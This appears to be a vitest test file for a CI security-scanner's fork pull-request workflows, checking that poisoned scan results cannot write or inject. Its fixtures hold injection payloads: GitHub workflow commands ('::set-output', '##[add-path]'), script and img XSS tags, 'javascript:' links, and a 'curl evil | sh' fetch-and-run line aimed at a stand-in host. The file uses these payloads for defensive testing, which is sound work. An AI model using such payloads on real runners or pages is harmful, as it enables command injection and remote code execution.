/**
 * Pull requests of forks in two workflows: one scans without any permission, the other judges what it left, with a
 * token that may write. What it left is the stranger's; more of its tricks are in `__tests__/shard/poisoned.test.ts`.
 */
import {readdir, readFile, writeFile} from 'node:fs/promises';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import {z} from 'zod';
import {type FakeGitHub, startFakeGitHub} from '../support/fake-github/server.ts';
import type {Files} from '../support/git-repository.ts';
import {checkOutPullRequest, type PullRequestCheckout} from './checkout.ts';
import {pullRequestEvent, workflowRunEvent} from './events.ts';
import {type Jobs, openJobs} from './jobs.ts';
import {BASE_FILES, BLOCKING_RULES, PROPOSED_FILES} from './samples.ts';

const FORK = 'mallory/shop';
const inputs = {scanners: 'secrets, iac, kubernetes, images'} as const;

interface Proposal extends AsyncDisposable {
  readonly github: FakeGitHub;
  readonly checkout: PullRequestCheckout;
  /** Where the run that judges starts: a checkout of the base alone. */
  readonly base: string;
  readonly jobs: Jobs;
}

/** A pull request of a fork, scanned in `shards` parts by its own workflow run, which has no token. */
async function scanProposal({head, shards = 1}: {head?: Files; shards?: number} = {}): Promise<Proposal> {
  const github = await startFakeGitHub();
  const checkout = await checkOutPullRequest({base: BASE_FILES, head: head ?? PROPOSED_FILES, depth: 50});
  await checkout.checkOutHead();
  const {baseSha, headSha} = checkout;
  github.state.pullRequests.push(
    {number: 7, headSha, headBranch: 'topic', headRepository: FORK, baseSha, state: 'open'},
    // Of others, by the same name or commit.
    {number: 8, headSha, headBranch: 'other', headRepository: FORK, baseSha, state: 'open'},
    {number: 9, headSha: baseSha, headBranch: 'topic', headRepository: FORK, baseSha, state: 'open'},
    {number: 10, headSha, headBranch: 'topic', headRepository: 'mallory/other', baseSha, state: 'open'},
    {number: 11, headSha, headBranch: 'topic', headRepository: FORK, baseSha, state: 'closed'},
  );
  const jobs = await openJobs({github, workspace: checkout.path, inputs, ...pullRequestEvent(checkout, FORK)});
  for (let index = 1; index <= shards; index++) {
    const scanned = await jobs.scan(`${index}/${shards}`);
    expect(scanned.exitCode, scanned.stdout + scanned.stderr).toBe(0);
  }
  expect(github.requests).toEqual([]);
  const base = await checkout.cloneBase();
  const judge: Jobs['judge'] = (options) => jobs.judge({workspace: base.path, ...options});
  return {
    github,
    checkout,
    base: base.path,
    jobs: {...jobs, judge},
    [Symbol.asyncDispose]: async () => {
      await jobs[Symbol.asyncDispose]();
      await base[Symbol.asyncDispose]();
      await checkout[Symbol.asyncDispose]();
      await github[Symbol.asyncDispose]();
    },
  };
}

describe('a pull request of a fork', () => {
  it('gets comment, check run and upload from the run that judges', async () => {
    await using proposal = await scanProposal({shards: 2});
    const {github, checkout, jobs} = proposal;
    const judged = await jobs.judge(workflowRunEvent(checkout));
    expect(judged.exitCode, judged.stdout + judged.stderr).toBe(1);
    expect(judged.outputs).toMatchObject({verdict: 'fail', critical: '1', high: '1'});
    expect(github.state.comments.map(({pullNumber}) => pullNumber)).toEqual([7]);
    for (const rule of BLOCKING_RULES) expect(github.state.comments[0]?.body).toContain(rule);
    expect(github.state.checkRuns).toMatchObject([
      {name: 'secure-pipeline', headSha: checkout.headSha, conclusion: 'failure'},
    ]);
    expect(github.state.checkRuns[0]?.annotations.length).toBeGreaterThan(1);
    expect(judged.stdout).not.toMatch(/^::error /m);
    expect(github.state.sarifUploads).toMatchObject([{commitSha: checkout.headSha, ref: 'refs/pull/7/head'}]);
  });

  it('that brings nothing passes, with a check run that says so and no comment', async () => {
    await using proposal = await scanProposal({head: {'README.md': '# The cart\n'}});
    const {github, checkout, jobs} = proposal;
    const judged = await jobs.judge(workflowRunEvent(checkout));
    expect(judged.exitCode, judged.stdout + judged.stderr).toBe(0);
    expect(github.state.checkRuns).toMatchObject([{headSha: checkout.headSha, conclusion: 'success'}]);
    expect(github.state.comments).toEqual([]);
  });

  it('is judged by the policy of its base', async () => {
    const policy = 'fail-on: never\nscanners: [secrets]\n';
    await using proposal = await scanProposal({head: {...PROPOSED_FILES, '.secure-pipeline.yml': policy}});
    const judged = await proposal.jobs.judge(workflowRunEvent(proposal.checkout));
    expect(judged.exitCode, judged.stdout + judged.stderr).toBe(1);
    expect(proposal.github.state.comments[0]?.body).toContain('changes fail-on from high to never');
  });

  it('can be scanned by the run that judges, when its own workflow run is not believed at all', async () => {
    await using proposal = await scanProposal();
    const {github, checkout, jobs} = proposal;
    const judged = await jobs.judge({...workflowRunEvent(checkout), inputs: {'partial-results': ''}});
    expect(judged.outputs).toMatchObject({verdict: 'fail', critical: '1', high: '1'});
    expect(github.state.comments.map(({pullNumber}) => pullNumber)).toEqual([7]);
  });

  it.each([
    ['was pushed to since', (one: Proposal) => one.github.state.pullRequests.splice(0, 1)],
    [
      'cannot be told from another',
      ({github}: Proposal) => github.state.pullRequests.push({...first(github), number: 12}),
    ],
  ] as const)('that %s is not commented on', async (_, change) => {
    await using proposal = await scanProposal();
    change(proposal);
    const {github, checkout, jobs} = proposal;
    const judged = await jobs.judge(workflowRunEvent(checkout));
    expect(judged.exitCode).toBe(2);
    expectNothingWritten(github);
  });

  it('leaves nothing of itself in the checkout', async () => {
    const lfs = {'.gitattributes': '*.bin filter=lfs\n', 'a.bin': 'x\n', 'package.json': '{}\n'};
    await using proposal = await scanProposal({head: {...PROPOSED_FILES, ...lfs}});
    const {checkout, jobs, base} = proposal;
    const judged = await jobs.judge(workflowRunEvent(checkout));
    expect(judged.outputs).toMatchObject({verdict: 'fail', critical: '1', high: '1'});
    expect((await readdir(base)).sort()).toEqual(['.git', '.secure-pipeline', 'README.md', 'services']);
  });

  it('is not scanned in part by the run that may write', async () => {
    await using proposal = await scanProposal();
    const {github, checkout, jobs} = proposal;
    const refused = await jobs.judge({...workflowRunEvent(checkout), inputs: {'partial-results': '', shard: '1/1'}});
    expect(refused.exitCode).toBe(2);
    expect(refused.stdout).toContain('shard: a workflow_run judges what the run before it has scanned');
    expectNothingWritten(github);
  });

  it('whose commit cannot be had is not judged', async () => {
    await using proposal = await scanProposal();
    const {github, checkout, jobs} = proposal;
    const headSha = 'e'.repeat(40);
    github.state.pullRequests.splice(0, 1, {...first(github), headSha});
    const judged = await jobs.judge(workflowRunEvent({...checkout, headSha}));
    expect(judged.exitCode).toBe(2);
    expect(judged.stdout).toContain(`commit ${headSha} cannot be had`);
    expectNothingWritten(github);
  });
});

const Result = z.looseObject({
  whole: z.array(z.looseObject({name: z.string(), head: z.array(z.unknown())})),
});
type Result = z.infer<typeof Result>;

describe('a poisoned result', () => {
  it('that names another pull request and another commit gets neither', async () => {
    await using proposal = await scanProposal();
    const {github, checkout, jobs} = proposal;
    await rewrite(jobs, (result) => ({...result, headCommit: checkout.baseSha}));
    const judged = await jobs.judge(workflowRunEvent(checkout));
    expect(judged.exitCode, judged.stdout + judged.stderr).toBe(2);
    expect(judged.outputs.verdict).toBe('error');
    expect(github.state.checkRuns).toMatchObject([{headSha: checkout.headSha, conclusion: 'failure'}]);
    expect(github.state.comments.every(({pullNumber}) => pullNumber === 7)).toBe(true);
  });

  it('cannot speak to the runner, to people or to a browser', async () => {
    await using proposal = await scanProposal();
    const {github, checkout, jobs} = proposal;
    await rewrite(jobs, (result) => ({
      ...result,
      notices: [HOSTILE],
      whole: result.whole.map((one) =>
        one.name === 'kubernetes'
          ? {...one, notices: [HOSTILE], rules: [hostileRule()], head: [...one.head, hostileFinding()]}
          : one,
      ),
    }));
    const judged = await jobs.judge(workflowRunEvent(checkout));
    expect(judged.exitCode, judged.stdout + judged.stderr).toBe(1);
    expect(Object.keys(judged.outputs)).not.toContain('pwned');
    const [, token = ''] = /::stop-commands::(\S+)/.exec(judged.stdout) ?? [];
    const live = judged.stdout.replace(new RegExp(`::stop-commands::${token}\n[\\s\\S]*?\n::${token}::\n`), '');
    expect(live.split('\n').filter((line) => /^\s*(?:::set-|::add-path|##\[)/.test(line))).toEqual([]);
    const body = github.state.comments[0]?.body ?? '';
    expect(body).toContain('hostile-rule');
    for (const text of [body, judged.summary]) {
      expect(text).not.toMatch(/<(?:script|img)|javascript:|[^\w;]@ada|https:\/\/evil|curl evil/);
    }
  });
});

const HOSTILE =
  '\n::set-output name=pwned::1\n##[add-path]/x\n@ada <script>alert(1)</script> <img src=x> [x](https://evil.example/x)';

function finding() {
  return {
    ruleId: 'hostile-rule',
    message: HOSTILE,
    location: {path: 'services/cart/deploy/pod.yaml', startLine: 1},
    identity: {scope: 'file', key: ['x']},
    severity: 'critical',
  };
}

function hostileFinding() {
  const location = {path: 'services/cart/deploy/pod.yaml', startLine: 1, startColumn: 1, endLine: 1, endColumn: 1};
  return {...finding(), fix: {description: 'Do this', edits: [{location, text: 'curl evil | sh\n'}]}};
}

function hostileRule() {
  return {
    id: 'hostile-rule',
    title: HOSTILE,
    category: 'iac',
    severity: 'critical',
    confidence: 'high',
    description: `Run curl evil ${HOSTILE}`,
    remediation: `Run curl evil ${HOSTILE}`,
    cwe: [],
    controls: [],
    references: ['https://evil.example/x', 'javascript:alert(1)'],
  };
}

async function rewrite({folder}: Jobs, poison: (result: Result) => unknown): Promise<void> {
  const [name = ''] = await readdir(folder);
  const file = join(folder, name);
  await writeFile(file, JSON.stringify(poison(Result.parse(JSON.parse(await readFile(file, 'utf8'))))));
}

function first({state}: FakeGitHub) {
  const [one] = state.pullRequests;
  if (one === undefined) throw new Error('the fake has a pull request');
  return one;
}

function expectNothingWritten(github: FakeGitHub): void {
  expect(github.requests.filter((request) => !request.startsWith('GET '))).toEqual([]);
}
